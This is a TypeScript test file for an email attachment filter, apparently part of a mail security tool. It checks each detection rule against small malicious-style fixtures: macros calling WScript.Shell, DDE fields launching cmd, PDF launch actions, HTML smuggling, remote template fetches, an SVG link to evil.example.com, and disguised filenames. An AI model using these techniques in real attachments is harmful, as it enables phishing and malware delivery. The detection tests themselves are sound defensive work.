/**
 * What is attached, by its bytes and by every name it could have: each rule with what fires it and what just does not.
 */
import { expect, test } from 'vitest'
import { type AttachmentsRule, attachments } from '../../../../src/filters/content/attachments/attachments.ts'
import { PosternError } from '../../../../src/model/errors.ts'
import { reject } from '../../../../src/model/finding.ts'
import { type MessageOptions, message } from '../../../../src/testing/message.ts'
import { probe } from '../../../../src/testing/probe.ts'
import { ole, vba, type ZipFileOptions, zip } from '../../../archives/build.ts'
import { type RuleCase, tryRules } from '../../../support/rule-cases.ts'

const file = (
  filename: string,
  content: string | Uint8Array,
  type = 'application/octet-stream',
  text = 'Hello\n',
): MessageOptions => ({
  text,
  attachments: [{ filename, content, type }],
})
const program = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(120)])
const word = (...files: readonly ZipFileOptions[]): Buffer =>
  zip([
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'word/document.xml', data: '<w:document/>' },
    ...files,
  ])
const relation = (kind: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`
const macros = (source: string): Buffer =>
  ole([
    { path: 'Macros/VBA/dir', data: vba('dir') },
    {
      path: 'Macros/VBA/ThisDocument',
      data: Buffer.concat([Buffer.alloc(64), vba(`Attribute VB_Name = "ThisDocument"\r\n${source}`)]),
    },
  ])
const quiet = macros('Sub a()\r\nEnd Sub')
const plainDocument = ole([{ path: 'WordDocument', data: Buffer.alloc(5000) }])
const notebook = (inside: string): Buffer =>
  Buffer.concat([
    Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
    Buffer.alloc(64),
    Buffer.from(inside, 'hex'),
    Buffer.from([8, 0, 0, 0, 0, 0, 0, 0]),
    Buffer.alloc(64),
  ])
const sources = (...names: readonly string[]): Buffer => zip(names.map(name => ({ name, data: 'x = 1' })))
const disk = (mark: string): Buffer => {
  const image = Buffer.alloc(40_000)
  image.write(mark, 32_769)
  return image
}
const page = (body: string): string => `<html><body>${body}</body></html>`
const literal = 'QUJD'.repeat(600)
const locationOf = (url: string): string =>
  `<?xml version="1.0"?><plist><dict><key>URL</key><string>${url}</string></dict></plist>`
const pdf = (text: string): string => `%PDF-1.7\n1 0 obj << ${text} >> endobj\n%%EOF`

const cases: Readonly<Record<AttachmentsRule, RuleCase>> = {
  'attachments/blocked': {
    fires: file('a.xlsm', 'x'),
    reason: 'a file has a blocked extension or type: “a.xlsm”',
    spares: file('a.xlsx', 'x'),
  },
  'attachments/program': {
    fires: file('photo.zip', zip([{ name: 'photo.dat', data: program }])),
    reason: '“photo.zip > photo.dat” is a program',
    spares: file('photo.zip', zip([{ name: 'photo.exe.txt', data: 'words' }])),
  },
  'attachments/auto-executable': {
    fires: file('invoice.js ', 'var a'),
    reason: '“invoice.js” runs when the user opens it',
    spares: file('invoice.json', '{}'),
  },
  'attachments/disk-image': {
    fires: file('a.img', disk('CD001')),
    reason: '“a.img” is a disk image',
    spares: file('a.img', disk('CD002')),
  },
  'attachments/shortcut': {
    fires: file('a.webloc', locationOf('file:///Volumes/x/a.app')),
    reason: '“a.webloc”: it opens “file:///Volumes/x/a.app”',
    spares: file('a.webloc', locationOf('https://example.org/')),
  },
  'attachments/link-file': {
    fires: file('Wiki.url', '[InternetShortcut]\r\nURL=https://example.org/wiki\r\n'),
    reason: '“Wiki.url” is a shortcut to a web page',
    spares: file('Wiki.url', '[InternetShortcut]\r\nURL=file://192.0.2.1/a/b.exe\r\n'),
  },
  'attachments/device-profile': {
    fires: file('wifi.mobileconfig', '<plist><key>PayloadType</key><string>com.apple.mdm</string></plist>'),
    reason: '“wifi.mobileconfig”: it installs settings: control over the device',
    spares: file('wifi.plist', '<plist><key>Label</key><string>com.apple.mdm</string></plist>'),
  },
  'attachments/build-code': {
    fires: file(
      'a.csproj',
      '<Project><UsingTask TaskFactory="RoslynCodeTaskFactory"><Task><Code>x</Code></Task></UsingTask>',
    ),
    reason: '“a.csproj”: a task in it is code that runs when it is built',
    spares: file('a.csproj', '<Project Sdk="Microsoft.NET.Sdk"><Exec Command="git describe"/></Project>'),
  },
  'attachments/remote-desktop': {
    fires: file('desk.rdp', 'full address:s:desk01.corp.local:3389\r\nredirectclipboard:i:1\r\n'),
    reason: '“desk.rdp” connects to a remote desktop of the author’s organisation',
    spares: file('desk.rdp', 'full address:s:desk01.corp.local\r\ndrivestoredirect:s:*\r\n'),
  },
  'attachments/source-code': {
    fires: file('src.zip', sources('src/index.js', 'src/app.ts', 'src/style.css', 'package.json')),
    reason: '“index.js” is a script in an archive of source code',
    spares: file('src.zip', sources('src/index.js', 'src/app.ts', 'src/style.css', 'src/order.exe', 'package.json')),
  },
  'attachments/onenote': {
    fires: file('a.one', notebook('e716e3bd65261145a4c48d4d0b7a9eac')),
    reason: '“a.one” is a notebook with embedded files',
    spares: file('a.one', notebook('00')),
  },
  'attachments/bomb': {
    fires: file('a.zip', zip([{ name: 'a', data: 'x', declared: 100_000_000 }])),
    reason: '“a.zip”: 103 bytes unpack to 100000000',
    spares: file('a.zip', zip([{ name: 'a', data: 'x'.repeat(5000) }])),
  },
  'attachments/duplicate-name': {
    fires: file(
      'a.zip',
      zip([
        { name: 'a.txt', data: 'x' },
        { name: 'a.txt', data: 'y' },
      ]),
    ),
    reason: '“a.zip”: two entries have the name a.txt',
    spares: file(
      'a.zip',
      zip([
        { name: 'a.txt', data: 'x' },
        { name: 'a.txt', data: 'x' },
      ]),
    ),
  },
  'attachments/polyglot': {
    fires: file('a.gif', zip([{ name: 'a.txt', data: 'x' }], { before: 'GIF89a' })),
    reason: '“a.gif”: 6 bytes stand before the archive',
    spares: file('a.zip', zip([{ name: 'a.txt', data: 'x' }])),
  },
  'attachments/double-extension': {
    fires: file('invoice.pdf          .exe', 'x'),
    reason: '“invoice.pdf .exe” has two extensions, and the last one is effective',
    spares: file('report.pdf.zip', zip([{ name: 'report.pdf', data: '%PDF-1.7 %%EOF' }])),
  },
  'attachments/obfuscated-name': {
    fires: file('ann\u202efdp.exe', 'x'),
    reason: 'the name “ann\\u{202e}fdp.exe” hides its extension (bidi)',
    spares: file('Übersicht – final.pdf', 'x'),
  },
  'attachments/type-mismatch': {
    fires: file('photo.jpg', program, 'image/jpeg'),
    reason: '“photo.jpg” is application/vnd.microsoft.portable-executable by its content',
    spares: file('a.docx', word(), 'application/zip'),
  },
  'attachments/encrypted': {
    fires: file('a.zip', zip([{ name: 'a.txt', data: 'x', encrypted: true }])),
    reason: '“a.zip”: entries of the archive need a password',
    spares: file('a.zip', zip([{ name: 'a.txt', data: 'x' }])),
  },
  'attachments/encrypted-with-password': {
    fires: file(
      'a.zip',
      zip([{ name: 'a.txt', data: 'x', encrypted: true }]),
      'application/zip',
      'The password: 7788\n',
    ),
    reason: 'a file is encrypted, and the text gives a password',
    spares: file(
      'a.zip',
      zip([{ name: 'a.txt', data: 'x', encrypted: true }]),
      'application/zip',
      'I will ring you up.\n',
    ),
  },
  'attachments/encrypted-page': {
    fires: file(
      'a.zip',
      zip([{ name: 'statement.html', data: 'x', encrypted: true }]),
      'application/zip',
      'The password: 7788\n',
    ),
    reason: '“statement.html” is in an encrypted archive, and the message gives its password',
    spares: file(
      'a.zip',
      zip([{ name: 'statement.pdf', data: 'x', encrypted: true }]),
      'application/zip',
      'The password: 7788\n',
    ),
  },
  'attachments/unsafe-extension': {
    fires: file('a.zip', zip([{ name: 'stock.mdb', data: 'x' }])),
    reason: '“stock.mdb” has an extension that Outlook does not deliver',
    spares: file('a.zip', zip([{ name: 'stock.csv', data: 'x' }])),
  },
  'attachments/unscannable': {
    fires: file('a.zip', zip([{ name: 'a.txt', data: 'x' }]).subarray(0, 40)),
    reason:
      '“a.zip”: the directory of the archive cannot be read: End of central directory record signature not found. Either not a zip file, or file is truncated.',
    spares: file('a.zip', zip([{ name: 'a.txt', data: 'x' }])),
  },
  'attachments/rare-archive': {
    fires: file('a.cab', `MSCF${'\0'.repeat(60)}`),
    reason: '“a.cab” is an archive in a rare format',
    spares: file('a.7z', Buffer.from('377abcaf271c0004', 'hex')),
  },
  'attachments/macro': {
    fires: file('a.doc', quiet),
    reason: '“a.doc”: it holds macros: Macros/VBA/ThisDocument',
    spares: file('a.doc', plainDocument),
  },
  'attachments/auto-macro': {
    fires: file('a.doc', macros('Sub AutoOpen()\r\nEnd Sub')),
    reason: '“a.doc”: Macros/VBA/ThisDocument runs by itself: AutoOpen',
    spares: file('a.doc', quiet),
  },
  'attachments/dangerous-macro': {
    fires: file('a.doc', macros('Sub a()\r\nCreateObject("WScript.Shell").Run "x"\r\nEnd Sub')),
    reason: '“a.doc”: Macros/VBA/ThisDocument calls CreateObject',
    spares: file('a.doc', quiet),
  },
  'attachments/remote-content': {
    fires: file(
      'a.docx',
      word({ name: 'word/_rels/settings.xml.rels', data: relation('attachedTemplate', 'http://192.0.2.1/t.dotm') }),
    ),
    reason: '“a.docx”: opening it fetches http://192.0.2.1/t.dotm (attachedTemplate)',
    spares: file(
      'a.docx',
      word({ name: 'word/_rels/document.xml.rels', data: relation('hyperlink', 'https://example.org/') }),
    ),
  },
  'attachments/own-remote-content': {
    fires: file(
      'a.docx',
      word({
        name: 'word/_rels/settings.xml.rels',
        data: relation('attachedTemplate', 'https://files.example.org/t.dotm'),
      }),
    ),
    reason: '“a.docx” loads content from the author’s own site',
    spares: file(
      'a.docx',
      word(
        {
          name: 'word/_rels/settings.xml.rels',
          data: relation('attachedTemplate', 'https://files.example.org/t.dotm'),
        },
        { name: 'word/_rels/document.xml.rels', data: relation('image', 'file://192.0.2.1/a.png') },
      ),
    ),
  },
  'attachments/dde': {
    fires: file('a.docx', word({ name: 'word/header1.xml', data: '<w:instrText>DDEAUTO c:\\cmd </w:instrText>' })),
    reason: '“a.docx”: a field starts a program by DDE',
    spares: file('a.docx', word({ name: 'word/header1.xml', data: '<w:instrText>PAGE </w:instrText>' })),
  },
  'attachments/exploit': {
    fires: file('a.doc', ole([{ path: 'ObjectPool/_1/Equation Native', data: 'x' }])),
    reason: '“a.doc”: it holds an object for the old Equation Editor',
    spares: file('a.doc', plainDocument),
  },
  'attachments/embedded-object': {
    fires: file('a.rtf', '{\\rtf1{\\object{\\*\\objdata 01050000}}}'),
    reason: '“a.rtf”: it holds an object',
    spares: file('a.rtf', '{\\rtf1 Hello}'),
  },
  'attachments/active-pdf': {
    fires: file('a.pdf', pdf('/S /Launch /F (cmd.exe)')),
    reason: '“a.pdf”: an action starts a program',
    spares: file('a.pdf', pdf('/Names /JavaScript')),
  },
  'attachments/document-link': {
    fires: file('a.pdf', '%PDF-1.4 /A << /S /URI /URI (https://share-doc.pages.dev/x) >> %%EOF'),
    reason: '“a.pdf” links to “https://share-doc.pages.dev/x”',
    spares: file('a.pdf', '%PDF-1.4 /A << /S /URI /URI (https://www.example.org/x) >> %%EOF'),
  },
  'attachments/html-page': {
    fires: file('a.htm', page('words')),
    reason: '“a.htm” is an HTML page',
    spares: file('a.txt', 'words'),
  },
  'attachments/page-form': {
    fires: file('a.shtml', page('<form action=x><input name=p type=password></form>')),
    reason: '“a.shtml”: it asks for a password or a card',
    spares: file('a.html', page('<form action="https://res.example.org/open"><input name=p type=password></form>')),
  },
  'attachments/page-script': {
    fires: file('a.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"></svg>'),
    reason: '“a.svg”: it holds code: onload=',
    spares: file('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>'),
  },
  'attachments/smuggling': {
    fires: file(
      'a.html',
      page(`<script>var b=new Blob([atob("${literal}")]);a.href=URL.createObjectURL(b);a.download="a.iso"</script>`),
    ),
    reason: '“a.html”: it assembles a file from its text and saves it',
    spares: file('a.html', page('<script>console.log(1)</script>')),
  },
  'attachments/picture-with-page': {
    fires: file('a.svg', '<svg><a href="https://evil.example.com/"><path/></a></svg>'),
    reason: 'the SVG “a.svg” links to “https://evil.example.com/”',
    spares: file('a.svg', '<svg><a href="https://www.w3.org/2000/svg"><path/></a></svg>'),
  },
}

tryRules<AttachmentsRule>(options => attachments({ blocked: ['xlsm'], ...options }), cases, {
  'attachments/auto-executable': 'M11 a script by a name with blanks at its end',
  'attachments/double-extension': 'M11 a program behind the ending of a document',
  'attachments/obfuscated-name': 'M11 a name that is written backwards',
  'attachments/encrypted': 'M13 an archive that needs a password',
  'attachments/bomb': 'M13 an archive that would swell',
  'attachments/macro': 'M13 a document with a macro',
  'attachments/auto-macro': 'M13 a macro that runs when the document is opened',
  'attachments/dangerous-macro': 'M13 a macro that calls programs',
  'attachments/dde': 'M13 a document that starts a program by DDE',
  'attachments/remote-content': 'M13 a document that loads its template from elsewhere',
  'attachments/embedded-object': 'M13 a document with an embedded object',
  'attachments/exploit': 'M13 a document with a known exploit',
  'attachments/rare-archive': 'M13 an archive of a kind that people rarely send',
  'attachments/shortcut': 'M14 a shortcut written as text',
  'attachments/onenote': 'M14 a notebook with files inside',
  'attachments/active-pdf': 'M14 a document whose action starts a program',
  'attachments/picture-with-page': 'M14 a picture with links',
  'attachments/polyglot': 'M11 a file that is of two formats',
  'attachments/type-mismatch': 'M11 a file that is not what it is called',
  'attachments/smuggling': 'M14 a page that assembles a file',
  'attachments/page-script': 'M14 a picture with code',
})

const part = (fields: string, body = 'TVo='): string =>
  `From: alice@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nHello\n--b\n${fields}\n\n${body}\n--b--\n`

test.for([
  ['text/plain with a name', 'Content-Type: text/plain; name=x.exe'],
  [
    'a page shown in place, called an application',
    'Content-Type: text/html; name="x.hta"\nContent-Disposition: inline',
  ],
  ['two file names', 'Content-Type: text/plain\nContent-Disposition: attachment; filename=x.txt; filename=x.exe'],
  [
    'a file name in two forms',
    "Content-Type: text/plain\nContent-Disposition: attachment; filename=x.txt; filename*=utf-8''x.exe",
  ],
  [
    'a file name in pieces',
    'Content-Type: text/plain\nContent-Disposition: attachment; filename*0="x.e"; filename*1="xe"',
  ],
  ['dots and blanks at the end', 'Content-Type: text/plain\nContent-Disposition: attachment; filename="x.exe. . "'],
  ['a NUL', "Content-Type: text/plain\nContent-Disposition: attachment; filename*=utf-8''x.exe%00.txt"],
  ['an encoded word', 'Content-Type: text/plain; name="=?utf-8?b?eC5leGU=?="'],
  ['a folder', 'Content-Type: text/plain; name="..\\\\x.exe"'],
] as const)('M11 a program by %s is found', async ([, fields]) => {
  const found = await probe(attachments(), { message: part(fields) })
  expect(found.map(({ rule }) => rule)).toContain('attachments/auto-executable')
})

test('an operator can refuse programs and allow an extension', async () => {
  const sent = message(file('setup.exe', program))
  const reason = '“setup.exe” is a program'
  const options = { points: { 'attachments/program': 'reject', 'attachments/auto-executable': 'off' } } as const
  const rule = 'attachments/program'
  expect(await probe(attachments(options), { message: sent })).toEqual([reject('5.7.1', reason, { rule })])
  expect(await probe(attachments({ ...options, allowed: ['exe'] }), { message: sent })).toEqual([])
})

test('an entry that is neither an extension nor a type is refused when the filter is built', () => {
  expect(() => attachments({ blocked: ['.exe'] })).toThrow(PosternError)
})

test('M11 a name in an archive that is not unpacked counts at any depth', async () => {
  const header = Buffer.alloc(32 + 9)
  header[2] = 0x74
  header.writeUInt16LE(header.length, 5)
  header.writeUInt16LE(9, 26)
  header.write('setup.exe', 32)
  const rar = Buffer.concat([Buffer.from('526172211a0700', 'hex'), header])
  const found = await probe(attachments(), { message: message(file('a.zip', zip([{ name: 'b.rar', data: rar }]))) })
  expect(found.map(({ rule, reason }) => [rule, reason])).toContainEqual([
    'attachments/auto-executable',
    '“setup.exe” in an archive runs when the user opens it',
  ])
})

test('M14 a shortcut that is called as one to a web page and opens a share runs', async () => {
  const shortcut = (url: string) => ({
    filename: 'a.url',
    content: `[InternetShortcut]\nURL=${url}`,
    type: 'text/plain',
  })
  const found = await probe(attachments(), {
    reversePath: 'alice@example.org',
    forwardPaths: ['bob@example.net'],
    message: message({
      text: 'Hello\n',
      attachments: [shortcut('https://example.org/'), shortcut('\\\\192.0.2.1\\a\\b.exe')],
    }),
  })
  expect(found.map(({ rule }) => rule)).toEqual(
    expect.arrayContaining(['attachments/auto-executable', 'attachments/remote-content', 'attachments/shortcut']),
  )
})
